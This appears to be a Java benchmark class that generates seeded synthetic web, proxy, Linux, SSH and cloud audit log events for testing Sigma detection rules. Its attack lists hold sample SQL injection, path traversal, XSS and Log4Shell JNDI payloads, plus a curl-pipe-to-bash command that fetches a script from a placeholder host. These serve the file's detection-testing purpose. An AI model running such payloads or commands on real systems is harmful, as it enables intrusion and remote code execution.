package io.zhidun.benchmarks;

import io.zhidun.events.LogSource;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Events of web servers, proxies, Linux hosts and cloud audit logs, with the field names that
 * Sigma's taxonomy has for them: everyday traffic with a little that rules look for. The same for a
 * seed.
 */
final class FamilyEvents {
  private static final List<String> WORDS =
      List.of(
          "patent", "trademark", "search", "index", "detail", "list", "export", "static", "app",
          "main", "login", "user", "file", "report", "query", "image", "page", "cn", "api", "v2");
  private static final List<String> AGENTS =
      List.of(
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/126.0.0.0 Safari/537.36",
          "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
          "curl/8.5.0",
          "python-requests/2.32.3");
  private static final List<String> ATTACKS =
      List.of(
          "' OR 1=1 --",
          "../../../../etc/passwd",
          "${jndi:ldap://203.0.113.7/a}",
          "<script>alert(1)</script>",
          "UNION SELECT password FROM users");
  private static final List<String> COMMANDS =
      List.of(
          "/usr/bin/python3 /opt/review/worker.py --queue patents --limit 200",
          "/bin/sh -c run-parts --report /etc/cron.hourly",
          "ls -la /var/lib/review/documents",
          "/usr/sbin/sshd -D -R",
          "grep -r invention /srv/patents/2026",
          "curl -s http://203.0.113.9/x.sh | bash",
          "tar czf /backup/trademarks.tgz /srv/trademarks");

  private final Random random;

  FamilyEvents(long seed) {
    this.random = new Random(seed);
  }

  List<SigmaEvent> take(int count) {
    List<SigmaEvent> events = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      events.add(next());
    }
    return events;
  }

  private SigmaEvent next() {
    return switch (random.nextInt(10)) {
      case 0, 1, 2 -> webserver();
      case 3 -> proxy();
      case 4 -> linuxProcess();
      case 5 -> auditd();
      case 6 -> sshd();
      case 7 -> cloudtrail();
      case 8 -> azure();
      default -> kubernetes();
    };
  }

  private SigmaEvent webserver() {
    Json json = new Json();
    stamp(json);
    json.text("cs-method", random.nextInt(5) == 0 ? "POST" : "GET");
    json.text("cs-uri-stem", path());
    json.text("cs-uri-query", query());
    json.text("cs-user-agent", pick(AGENTS));
    json.text("cs-referer", "https://search.example.cn" + path());
    json.text("c-ip", address()).number("sc-status", pick(List.of(200, 200, 200, 304, 404, 500)));
    json.number("sc-bytes", random.nextInt(200_000)).text("cs-host", "search.example.cn");
    json.text("event.original", address() + " - - \"GET " + path() + " HTTP/1.1\" 200");
    return json.event("webserver", "nginx", null);
  }

  private SigmaEvent proxy() {
    Json json = new Json();
    stamp(json);
    String uri = path();
    json.text("cs-method", "GET").text("c-uri", "https://www.example.cn" + uri + "?" + query());
    json.text("c-uri-path", uri).text("c-uri-query", query()).text("cs-host", "www.example.cn");
    json.text("c-useragent", pick(AGENTS)).text("src_ip", address()).text("dst_ip", address());
    json.number("sc-status", 200).text("cs-cookie", "session=" + hex(32));
    return json.event("proxy", null, null);
  }

  private SigmaEvent linuxProcess() {
    Json json = new Json();
    stamp(json);
    String command = pick(COMMANDS);
    json.text("Image", "/usr/bin/" + command.split(" ", -1)[0].replaceAll(".*/", ""));
    json.text("CommandLine", command).text("ParentImage", "/usr/bin/bash");
    json.text("ParentCommandLine", "bash -l").text("User", "review");
    json.text("CurrentDirectory", "/srv/" + pick(WORDS)).text("LogonId", "1000");
    json.text("ProcessGuid", "{" + hex(32) + "}").number("ProcessId", random.nextInt(60_000));
    json.text("Hashes", "SHA256=" + hex(64)).text("Computer", "review-7");
    return json.event("process_creation", "linux", "sysmon");
  }

  private SigmaEvent auditd() {
    Json json = new Json();
    stamp(json);
    String[] arguments = pick(COMMANDS).split(" ", -1);
    json.text("type", "EXECVE").number("argc", arguments.length);
    for (int i = 0; i < arguments.length; i++) {
      json.text("a" + i, arguments[i]);
    }
    json.text("exe", arguments[0]).text("comm", "worker").text("key", "exec").text("auid", "1000");
    json.text("syscall", "execve").text("success", "yes").text("tty", "pts0");
    return json.event(null, "linux", "auditd");
  }

  private SigmaEvent sshd() {
    Json json = new Json();
    stamp(json);
    String from = address();
    String message =
        random.nextInt(4) == 0
            ? "Accepted publickey for review from " + from + " port 40022 ssh2"
            : "Failed password for invalid user admin from " + from + " port 51234 ssh2";
    json.text("message", message).text("program", "sshd").text("host", "gate-1");
    json.text("source.ip", from).text("user.name", "admin").number("process.pid", 2211);
    json.text("event.original", "Nov 27 03:04:05 gate-1 sshd[2211]: " + message);
    return json.event(null, "linux", "sshd");
  }

  private SigmaEvent cloudtrail() {
    Json json = new Json();
    stamp(json);
    json.text("eventVersion", "1.08").text("eventSource", pick(List.of("s3", "ec2", "iam")) + ".amazonaws.com");
    json.text(
        "eventName",
        pick(List.of("GetObject", "DescribeInstances", "ListBuckets", "CreateUser", "StopLogging")));
    json.text("awsRegion", "cn-north-1").text("sourceIPAddress", address());
    json.text("userAgent", "aws-cli/2.15").text("eventType", "AwsApiCall");
    json.text("userIdentity.type", pick(List.of("IAMUser", "AssumedRole", "Root")));
    json.text("userIdentity.arn", "arn:aws:iam::" + random.nextInt(1_000_000) + ":user/review");
    json.text("requestParameters.bucketName", "patents-" + pick(WORDS));
    json.text("requestParameters.key", path()).text("requestID", hex(16)).text("eventID", hex(32));
    json.text("recipientAccountId", "123456789012").text("errorCode", "");
    return json.event(null, "aws", "cloudtrail");
  }

  private SigmaEvent azure() {
    Json json = new Json();
    stamp(json);
    json.text("operationName", pick(List.of("Update application", "Add member to role", "Sign-in")));
    json.text("Category", "ApplicationManagement").text("result", "success");
    json.text("properties.message", "Update application - certificates and secrets management");
    json.text("initiatedBy.user.userPrincipalName", "reviewer@example.cn");
    json.text("initiatedBy.user.ipAddress", address()).text("correlationId", hex(32));
    json.text("targetResources.displayName", "portal").text("LoggedByService", "Core Directory");
    json.text("ResultDescription", "").text("tenantId", hex(32)).text("activityDisplayName", "Update");
    return json.event(null, "azure", "auditlogs");
  }

  private SigmaEvent kubernetes() {
    Json json = new Json();
    stamp(json);
    json.text("verb", pick(List.of("get", "list", "watch", "create", "delete", "patch")));
    json.text("objectRef.resource", pick(List.of("pods", "secrets", "configmaps", "deployments")));
    json.text("objectRef.namespace", pick(List.of("review", "kube-system", "portal")));
    json.text("objectRef.name", pick(WORDS) + "-" + hex(5)).text("apiGroup", "apps");
    json.text("user.username", "system:serviceaccount:review:worker");
    json.text("userAgent", "kubectl/v1.30").text("sourceIPs", address());
    json.text("requestURI", "/api/v1/namespaces/review/pods").text("auditID", hex(32));
    json.text("stage", "ResponseComplete").number("responseStatus.code", 200);
    return json.event("application", "kubernetes", "audit");
  }

  private void stamp(Json json) {
    json.text(
        "@timestamp",
        String.format(
            Locale.ROOT, "2026-11-%02dT03:%02d:05Z", 1 + random.nextInt(28), random.nextInt(60)));
  }

  private String path() {
    StringBuilder path = new StringBuilder();
    for (int i = 1 + random.nextInt(4); i > 0; i--) {
      path.append('/').append(pick(WORDS));
    }
    return path + "-" + random.nextInt(100_000) + ".html";
  }

  private String query() {
    StringBuilder query = new StringBuilder();
    for (int i = random.nextInt(4); i > 0; i--) {
      query.append(pick(WORDS)).append('=').append(hex(8)).append('&');
    }
    return random.nextInt(100) == 0 ? query + "q=" + pick(ATTACKS) : query.toString();
  }

  private String address() {
    return "198.51." + random.nextInt(256) + "." + random.nextInt(256);
  }

  private String hex(int digits) {
    StringBuilder hex = new StringBuilder(digits);
    for (int i = 0; i < digits; i++) {
      hex.append(Character.forDigit(random.nextInt(16), 16));
    }
    return hex.toString();
  }

  private <T> T pick(List<T> list) {
    return list.get(random.nextInt(list.size()));
  }

  /** A JSON object under way. */
  private static final class Json {
    private final StringBuilder out = new StringBuilder();

    Json text(String name, String value) {
      return put(name, io.zhidun.events.Json.mapper().writeValueAsString(value));
    }

    Json number(String name, long value) {
      return put(name, Long.toString(value));
    }

    private Json put(String name, String value) {
      out.append(out.isEmpty() ? "{" : ",").append('"').append(name).append("\":").append(value);
      return this;
    }

    SigmaEvent event(
        @org.jspecify.annotations.Nullable String category,
        @org.jspecify.annotations.Nullable String product,
        @org.jspecify.annotations.Nullable String service) {
      byte[] json = out.append('}').toString().getBytes(StandardCharsets.UTF_8);
      return new SigmaEvent(json, new LogSource(category, product, service));
    }
  }
}
